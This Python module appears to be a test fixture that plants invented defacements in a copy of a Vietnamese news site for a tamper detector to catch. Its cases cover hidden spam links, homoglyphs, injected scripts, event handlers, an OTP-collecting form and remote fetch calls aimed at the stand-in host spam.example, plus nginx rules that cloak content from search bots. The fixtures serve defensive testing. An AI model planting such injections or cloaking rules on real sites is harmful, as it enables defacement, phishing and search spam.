"""What intruders do to a published site, each planted in a copy of it or in its server's rules. All of it is invented.

`path` is where the check must point, `code` what it must call it, `words` what its sentences must hold.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from sites import picture

Alter = Callable[[Path], None]
ARTICLE = "tin/2026/01/hop/index.html"
PHRASE = "Kết quả bịa đặt"
SPAM = "https://spam.example/"


@dataclass(frozen=True)
class Attack:
    name: str
    path: str
    code: str
    words: tuple[str, ...] = ()
    alter: Alter | None = None
    rules: str = ""


def put(path: str, content: str | bytes) -> Alter:
    """Write a file anew: files of a copy are those of the original on disk."""

    def alter(site: Path) -> None:
        file = site / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.unlink(missing_ok=True)
        file.write_bytes(content if isinstance(content, bytes) else content.encode())

    return alter


def swap(path: str, old: str, new: str) -> Alter:
    """Replace the first occurrence of a text; that it is there is checked."""

    def alter(site: Path) -> None:
        text = (site / path).read_text(encoding="utf-8")
        assert old in text, f"{path} does not hold {old!r}"
        put(path, text.replace(old, new, 1))(site)

    return alter


def in_head(markup: str, path: str = ARTICLE) -> Alter:
    return swap(path, "</head>", f"{markup}</head>")


def in_body(markup: str, path: str = ARTICLE) -> Alter:
    return swap(path, "</article>", f"{markup}</article>")


def gone(path: str) -> Alter:
    return lambda site: (site / path).unlink()


def both(*alters: Alter) -> Alter:
    def alter(site: Path) -> None:
        for one in alters:
            one(site)

    return alter


def page(text: str = PHRASE, path: str = "tin/spam/index.html") -> Alter:
    return put(path, f"<!doctype html><html><head><title>{text}</title></head><body><p>{text}</p></body></html>")


def shown_if(condition: str) -> str:
    """Rules that show another page for the article's address to some visitors only."""
    return (
        f"location = /tin/2026/01/hop/ {{ if (${condition}) {{ rewrite ^ /.hidden.html break; }} index index.html; }}"
    )


def cloaked(name: str, condition: str, seen: str) -> Attack:
    alter = page(path=".hidden.html")
    return Attack(f"cloaked-{name}", ARTICLE, "cloaked", (PHRASE, seen), alter, shown_if(condition))


IN_PLACE = (
    Attack(
        "phrase-in-a-sentence", ARTICLE, "changed", (f"công khai, [+{PHRASE},+] minh bạch",),
        swap(ARTICLE, "công khai, minh", f"công khai, {PHRASE}, minh"),
    ),
    Attack("glued-phrase", ARTICLE, "changed", (PHRASE,), swap(ARTICLE, "công khai, minh", f"công khai,{PHRASE} minh")),
    Attack("word-taken-out", ARTICLE, "changed", ("[-minh bạch,-]",), swap(ARTICLE, "minh bạch, ", "")),
    Attack("figure-changed", ARTICLE, "changed", ("[-05/01/2026,-]", "[+05/02/2026,+]"), swap(ARTICLE, ">05/01/2026, 08:00", ">05/02/2026, 08:00")),
    Attack("link", ARTICLE, "changed", ("a link put in", SPAM), in_body(f'<a href="{SPAM}">xem</a>')),
    Attack("link-without-text", ARTICLE, "changed", ("a link put in", SPAM), in_body(f'<a href="{SPAM}"></a>')),
    Attack("link-moved", ARTICLE, "changed", ("a link put in", SPAM), swap(ARTICLE, 'href="../../../../van-ban/"', f'href="{SPAM}"')),
    Attack("link-hidden", ARTICLE, "changed", ("hidden text", PHRASE), in_body(f'<div style="display: none"><a href="{SPAM}">{PHRASE}</a></div>')),
    Attack("text-off-screen", ARTICLE, "changed", ("hidden text", PHRASE), in_body(f'<p style="position:absolute;left:-9999px">{PHRASE}</p>')),
    Attack("text-without-size", ARTICLE, "changed", ("hidden text", PHRASE), in_body(f'<p style="font-size:0">{PHRASE}</p>')),
    Attack("text-with-hidden", ARTICLE, "changed", ("hidden text", PHRASE), in_body(f"<p hidden>{PHRASE}</p>")),
    Attack("zero-width", ARTICLE, "changed", ("invisible characters", "U+200B"), swap(ARTICLE, "minh bạch", "minh\u200b bạch")),
    Attack("text-direction", ARTICLE, "changed", ("U+202E",), swap(ARTICLE, "dân chủ", "dân \u202echủ")),
    Attack("soft-hyphen", ARTICLE, "changed", ("U+00AD",), swap(ARTICLE, "dân chủ", "dân\u00ad chủ")),
    Attack("homoglyph", ARTICLE, "changed", ("look-alike", "CYRILLIC SMALL LETTER O"), swap(ARTICLE, "hoạt động", "h\u043eạt động")),
    Attack("decomposed", ARTICLE, "changed", ("encoded another way",), swap(ARTICLE, "dân chủ", "da\u0302n chủ")),
    Attack("script", ARTICLE, "changed", ("a script put in", SPAM), in_head(f'<script src="{SPAM}x.js"></script>')),
    Attack("script-inline", ARTICLE, "changed", ("a script put in", "atob"), in_body("<script>eval(atob('eA=='))</script>")),
    Attack("script-of-ours", ARTICLE, "changed", ("a script put in", "kich-ban.js"), in_head('<script src="/kich-ban.js"></script>')),
    Attack("script-in-a-link", ARTICLE, "changed", ("a script put in",), in_body('<a href="java&#10;script:alert(1)">xem</a>')),
    Attack("handler", ARTICLE, "changed", ("a script in an attribute", "onmouseover"), swap(ARTICLE, "<h1 ", '<h1 onmouseover="alert(1)" ')),
    Attack("iframe", ARTICLE, "changed", ("an embedded frame", SPAM), in_body(f'<iframe src="{SPAM}"></iframe>')),
    Attack("object", ARTICLE, "changed", ("an embedded frame", SPAM), in_body(f'<object data="{SPAM}x.swf"></object>')),
    Attack("form", ARTICLE, "changed", ("a form", SPAM), in_body(f'<form action="{SPAM}"><input name="otp"></form>')),
    Attack("meta-refresh", ARTICLE, "changed", ("a refresh", SPAM), in_head(f'<meta http-equiv="refresh" content="3;url={SPAM}">')),
    Attack("base", ARTICLE, "changed", ("a base tag", SPAM), in_head(f'<base href="{SPAM}">')),
    Attack("canonical", ARTICLE, "changed", ("the canonical address", SPAM), swap(ARTICLE, 'rel="canonical" href="https://example.org/', f'rel="canonical" href="{SPAM}')),
    Attack("hreflang", ARTICLE, "changed", ("(hreflang)", SPAM), swap(ARTICLE, 'hreflang="en" href="https://example.org/', f'hreflang="en" href="{SPAM}')),
    Attack("json-ld", ARTICLE, "changed", ("JSON-LD", PHRASE), swap(ARTICLE, '"headline":"', f'"headline":"{PHRASE} ')),
    Attack("title", ARTICLE, "changed", ("the title", PHRASE), swap(ARTICLE, "<title>", f"<title>{PHRASE} ")),
    Attack("og-title", ARTICLE, "changed", ("og:title", PHRASE), swap(ARTICLE, 'og:title" content="', f'og:title" content="{PHRASE} ')),
    Attack("description", ARTICLE, "changed", ("description", PHRASE), swap(ARTICLE, 'name="description" content="', f'name="description" content="{PHRASE} ')),
    Attack("noindex", ARTICLE, "changed", ("robots: noindex",), in_head('<meta name="robots" content="noindex">')),
    Attack("picture-text", ARTICLE, "changed", ("a label", PHRASE), swap(ARTICLE, 'alt="Buổi họp"', f'alt="{PHRASE}"')),
    Attack("stylesheet", ARTICLE, "changed", ("a link tag", SPAM), in_head(f'<link rel="stylesheet" href="{SPAM}x.css">')),
    Attack("comment", ARTICLE, "changed", ("a comment", PHRASE), in_body(f"<!-- {PHRASE} -->")),
    Attack("correction-taken-down", ARTICLE, "changed", ("text taken out", "sai số hộ"), swap(ARTICLE, "Bản đầu ghi sai số hộ", "")),
    Attack("after-the-end", ARTICLE, "changed", ("a link put in", SPAM), swap(ARTICLE, "</html>", f'</html><a href="{SPAM}">x</a>')),
    Attack("language", ARTICLE, "changed", ("html lang=zh",), swap(ARTICLE, '<html lang="vi"', '<html lang="zh"')),
    Attack("front-page-replaced", "index.html", "changed", ("the whole page is another one", PHRASE), page(path="index.html")),
    Attack("page-gone", ARTICLE, "status", ("403",), gone(ARTICLE)),
    Attack("file-gone", "so-lieu.csv", "missing", (), gone("so-lieu.csv")),
    Attack("feed", "rss.xml", "changed", (PHRASE,), swap("rss.xml", "Xã Mây Trắng họp", f"Xã Mây Trắng họp {PHRASE}")),
    Attack("feed-link", "atom.xml", "changed", (SPAM,), swap("atom.xml", "https://example.org/tin/2026/01/hop/", SPAM)),
    Attack("json-feed", "feed.json", "changed", (PHRASE,), swap("feed.json", "Xã Mây Trắng họp", PHRASE)),
    Attack("corrections-feed", "dinh-chinh/rss.xml", "changed", ("text taken out",), swap("dinh-chinh/rss.xml", "sai số hộ", "")),
    Attack("text-copy", "tin/2026/01/hop/index.md", "changed", (PHRASE,), swap("tin/2026/01/hop/index.md", "minh bạch", PHRASE)),
    Attack("csv-value", "so-lieu.csv", "changed", ("[-120-]", "[+210+]"), swap("so-lieu.csv", "120", "210")),
    Attack("picture", "tin/2026/01/hop/hop.jpg", "changed", ("another file",), put("tin/2026/01/hop/hop.jpg", picture("black") + b"more")),
    Attack("picture-of-one-size", "tin/2026/01/hop/hop.jpg", "changed", ("another file",), put("tin/2026/01/hop/hop.jpg", picture("#fffffe"))),
    Attack("font", "chu.woff2", "changed", ("another file",), put("chu.woff2", b"wOF2 another")),
    Attack("css", "assets/minhbach.css", "changed", ("display:none",), swap("assets/minhbach.css", "}", "} .mb-corrections{display:none}")),
    Attack("css-content", "assets/minhbach.css", "changed", (PHRASE,), swap("assets/minhbach.css", "}", f'}} h1::after{{content:"{PHRASE}"}}')),
    Attack("javascript", "kich-ban.js", "changed", ("fetch",), swap("kich-ban.js", "'use strict';", f"fetch('{SPAM}');")),
    Attack("svg-script", "assets/icon.svg", "changed", ("<script>",), swap("assets/icon.svg", "</svg>", "<script>alert(1)</script></svg>")),
    Attack("robots", "robots.txt", "changed", ("Disallow",), put("robots.txt", "User-agent: *\nDisallow: /\n")),
    Attack("sitemap-replaced", "sitemap.xml", "changed", (SPAM,), swap("sitemap.xml", "https://example.org/sitemap", f"{SPAM}sitemap")),
    Attack("long-tail", ARTICLE, "changed", ("text put in",), swap(ARTICLE, "</html>", "</html><p>" + "x " * 800_000 + "</p>")),
)  # fmt: skip

ELSEWHERE = (
    Attack("page-in-the-sitemap", "tin/spam/", "extra", (), both(page(), swap("sitemap-pages.xml", "</urlset>", "<url><loc>https://example.org/tin/spam/</loc></url></urlset>"))),
    Attack("page-in-a-feed", "tin/spam/", "extra", (), both(page(), swap("rss.xml", "https://example.org/tin/2026/01/hop/", "https://example.org/tin/spam/"))),
    Attack("page-from-a-link", "tin/spam/", "extra", (), both(page(), in_body('<a href="/tin/spam/">xem</a>'))),
    Attack("page-behind-a-page", "sau/cung.html", "extra", (), both(put("tin/spam/index.html", '<a href="/sau/cung.html">x</a>'), page(path="sau/cung.html"), in_body('<a href="/tin/spam/">xem</a>'))),
    Attack("page-in-a-listing", "assets/rgb.html", "extra", (), page(path="assets/rgb.html"), "autoindex on;"),
    Attack("second-sitemap", "sitemap_index.xml", "extra", (), put("sitemap_index.xml", "<urlset/>")),
    Attack("service-worker", "sw.js", "extra", (), put("sw.js", f"importScripts('{SPAM}sw.js')")),
    Attack("script-of-a-server", "index.php", "extra", (), put("index.php", "<?php ?>")),
    Attack("404-casino", "404.html", "foreign-404", (PHRASE,), put("404.html", f'<p>{PHRASE} <a href="{SPAM}">vào</a></p>')),
    Attack("404-with-200", "/", "soft-404", (), None, "error_page 404 =200 /404.html;"),
    Attack("404-other-page", "/", "soft-404", (), page(path="casino.html"), "error_page 404 =200 /casino.html;"),
    Attack("404-redirect", "/", "missing-redirects", (SPAM,), None, f"error_page 404 =302 {SPAM};"),
    Attack("404-for-bots", "/", "soft-404", ("a search bot",), page(path=".casino.html"), "error_page 404 /404.html; location / { if ($bot) { rewrite \"^/[^/]*[0-9a-f]{16}\" /.casino.html break; } }"),
    Attack("404-in-one-folder", "/tin", "soft-404", (), page(path=".casino.html"), "error_page 404 /404.html; location /tin/ { try_files $uri $uri/index.html /.casino.html; }"),
)  # fmt: skip

BY_THE_SERVER = (
    cloaked("bot", "bot", "[a search bot"),
    cloaked("search", "searched", "[a reader from a search result"),
    cloaked("query", "queried", "[an odd query"),
    cloaked("cookie", "returning", "[a returning reader"),
    cloaked("phone", "phone", "[a reader from a search result"),
    cloaked("language", "english", "[a returning reader"),
    cloaked("compression", "unzipped", "[an odd query"),
    Attack("cloaked-brotli", ARTICLE, "cloaked", (PHRASE,), page(path=".hidden.html"), shown_if("brotli")),
    Attack("cloaked-phrase", ARTICLE, "cloaked", (f"công khai, [+{PHRASE},+] minh",), None, f"location /tin/2026/01/hop/ {{ set $phrase ''; if ($bot) {{ set $phrase ' {PHRASE},'; }} sub_filter 'công khai,' 'công khai,$phrase'; sub_filter_once off; }}"),
    Attack("cloaked-redirect", ARTICLE, "redirected", (SPAM, "from a search result"), None, f"location = /tin/2026/01/hop/ {{ if ($searched) {{ return 302 {SPAM}; }} }}"),
    Attack("cloaked-robots", "robots.txt", "cloaked", ("a search bot",), put(".robots", "User-agent: *\nDisallow: /tin/\n"), "location = /robots.txt { if ($bot) { rewrite ^ /.robots break; } }"),
    Attack("cloaked-feed", "rss.xml", "cloaked", ("a search bot",), page(path=".rss.xml"), "location = /rss.xml { if ($bot) { rewrite ^ /.rss.xml break; } }"),
    Attack("prepared-copy", ARTICLE, "cloaked", (PHRASE,), None, "location /tin/2026/01/hop/ { gzip_static on; }"),
    Attack("redirect", "tin/index.html", "redirected", (SPAM,), None, f"location = /tin/ {{ return 301 {SPAM}; }}"),
    Attack("redirect-on-our-host", "tin/index.html", "redirected", ("/tin/spam/",), page(), "location = /tin/ { return 302 /tin/spam/; }"),
    Attack("redirect-without-slash", "tin", "redirected", (SPAM,), None, f"location = /tin {{ return 301 {SPAM}; }}"),
    Attack("refused", ARTICLE, "status", ("403",), None, "location = /tin/2026/01/hop/ { return 403; }"),
    Attack("refresh-header", ARTICLE, "header-redirects", (SPAM,), None, f'location /tin/2026/01/hop/ {{ add_header Refresh "0;url={SPAM}"; }}'),
    Attack("link-header", ARTICLE, "header-links", (SPAM,), None, f"location /tin/2026/01/hop/ {{ add_header Link '<{SPAM}>; rel=\"canonical\"'; }}"),
    Attack("alt-svc", ARTICLE, "header-redirects", ("alt-svc",), None, "location /tin/2026/01/hop/ { add_header Alt-Svc 'h3=\"spam.example:443\"'; }"),
    Attack("robots-header", ARTICLE, "header-hides", ("noindex",), None, 'location /tin/2026/01/hop/ { add_header X-Robots-Tag "noindex"; }'),
    Attack("policy-opened", ARTICLE, "header-opens", ("spam.example",), None, f"location /tin/2026/01/hop/ {{ add_header Content-Security-Policy \"script-src 'self' {SPAM}\"; }}"),
    Attack("download-header", ARTICLE, "header-unsafe", ("attachment",), None, "location /tin/2026/01/hop/ { add_header Content-Disposition attachment; }"),
    Attack("page-as-text", ARTICLE, "wrong-type", ("text/plain",), None, "location /tin/2026/01/hop/ { types {} default_type text/plain; }"),
    Attack("csv-as-page", "so-lieu.csv", "wrong-type", ("text/html",), None, "location = /so-lieu.csv { types {} default_type text/html; }"),
    Attack("picture-as-page", "tin/2026/01/hop/hop.jpg", "wrong-type", ("text/html",), None, "location ~ [.]jpg$ { types {} default_type text/html; }"),
    Attack("charset", ARTICLE, "wrong-charset", ("windows-1258",), None, "location /tin/2026/01/hop/ { charset windows-1258; override_charset on; source_charset windows-1258; }"),
    Attack("phrase-everywhere", "tin/index.html", "changed", (PHRASE,), None, f"sub_filter '</h1>' ' {PHRASE}</h1>';"),
)  # fmt: skip

ATTACKS = (*IN_PLACE, *ELSEWHERE, *BY_THE_SERVER)
